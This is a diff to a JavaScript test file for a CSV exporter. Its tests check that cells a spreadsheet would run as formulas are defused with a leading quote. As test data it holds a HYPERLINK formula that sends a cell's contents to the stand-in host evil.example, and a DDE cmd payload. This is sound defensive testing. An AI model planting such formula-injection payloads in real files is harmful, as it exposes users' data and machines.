@@ -82,7 +82,16 @@ test("pages clamp to what exists", () => {
 
 test("CSV quotes what needs it and defuses formulas", () => {
   const csv = f.toCsv(["a", "b"], [{ a: 'say "hi"', b: "x,y" }, { a: "=SUM(A1)", b: null }]);
-  assert.equal(csv, 'a,b\r\n"say ""hi""","x,y"\r\n"=SUM(A1)",\r\n');
+  assert.equal(csv, 'a,b\r\n"say ""hi""","x,y"\r\n\'=SUM(A1),\r\n');
+});
+
+test("CSV text a spreadsheet would run gets a leading quote; numbers stay numbers", () => {
+  for (const [value, cell] of [
+    ['=HYPERLINK("http://evil.example/?x="&B2,"open")', '"\'=HYPERLINK(""http://evil.example/?x=""&B2,""open"")"'],
+    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
+    ["-2+3", "'-2+3"], ["@SUM(A1)", "'@SUM(A1)"], ["\tx", "'\tx"], ["\rx", "\"'\rx\""],
+    [-3, "-3"], [-3.5, "-3.5"], ["AAPL", "AAPL"], ["a=b", "a=b"], [null, ""],
+  ]) assert.equal(f.toCsv(["c"], [{ c: value }]), `c\r\n${cell}\r\n`, JSON.stringify(value));
 });
 
 test("the equity curve adds realised profit after each sell, from zero", () => {
